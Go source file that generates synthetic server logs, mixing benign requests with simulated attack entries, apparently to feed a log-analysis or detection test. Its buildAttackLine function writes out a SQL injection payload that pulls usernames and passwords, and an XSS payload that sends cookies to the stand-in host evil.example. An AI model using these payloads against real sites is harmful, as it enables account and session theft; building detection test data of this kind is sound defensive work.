package main

import (
	"fmt"
	"log"
	"math/rand"
	"time"
)

const logTimeFormat = "2006-01-02T15:04:05Z"

func generateLines(count int, attackRate float64, start time.Time, rng *rand.Rand) []string {
	lines := make([]string, 0, count)
	for i := 0; i < count; i++ {
		timestamp := start.Add(time.Duration(i) * time.Second)

		template := newLineTemplate(rng)
		if rng.Float64() < attackRate {
			lines = append(lines, buildAttackLine(template, timestamp, rng))
			continue
		}
		lines = append(lines, buildBenignLine(template, timestamp, rng))
	}
	return lines
}

func buildBenignLine(t lineTemplate, timestamp time.Time, rng *rand.Rand) string {
	switch rng.Intn(3) {
	case 0:
		return fmt.Sprintf("%s INFO %s - \"%s %s HTTP/1.1\" %d %d",
			timestamp.Format(logTimeFormat), t.ClientIP, t.Method, t.Path, t.Status, t.Bytes)
	case 1:
		return fmt.Sprintf("%s INFO session started for user %s from %s",
			timestamp.Format(logTimeFormat), t.Username, t.ClientIP)
	default:
		return fmt.Sprintf("%s DEBUG handled request %s %s in %dms",
			timestamp.Format(logTimeFormat), t.Method, t.Path, rng.Intn(250))
	}
}

func buildAttackLine(t lineTemplate, timestamp time.Time, rng *rand.Rand) string {
	ts := timestamp.Format(logTimeFormat)

	switch rng.Intn(6) {
	case 0:
		return fmt.Sprintf("%s WARN authentication failed for user %s from %s: incorrect password",
			ts, t.Username, t.ClientIP)
	case 1:
		return fmt.Sprintf("%s INFO %s - \"GET /admin/%s.php HTTP/1.1\" 404 153",
			ts, t.ClientIP, randomToken(rng))
	case 2:
		return fmt.Sprintf("%s INFO %s - \"GET /search?q=1' UNION SELECT username,password FROM users-- HTTP/1.1\" 200 %d",
			ts, t.ClientIP, t.Bytes)
	case 3:
		return fmt.Sprintf("%s INFO %s - \"GET /comment?text=<script>document.location='http://evil.example/'+document.cookie</script> HTTP/1.1\" 200 %d",
			ts, t.ClientIP, t.Bytes)
	case 4:
		return fmt.Sprintf("%s WARN rate limit exceeded for %s, too many requests", ts, t.ClientIP)
	default:
		return fmt.Sprintf("%s CRITICAL possible brute force attack from %s targeting /login", ts, t.ClientIP)
	}
}

func randomToken(rng *rand.Rand) string {
	const alphabet = "abcdefghijklmnopqrstuvwxyz"
	token := make([]byte, 6)
	for i := range token {
		token[i] = alphabet[rng.Intn(len(alphabet))]
	}
	return string(token)
}

func mustNotBeEmpty(value, field string) string {
	if value == "" {
		log.Fatalf("faker produced empty %s", field)
	}
	return value
}
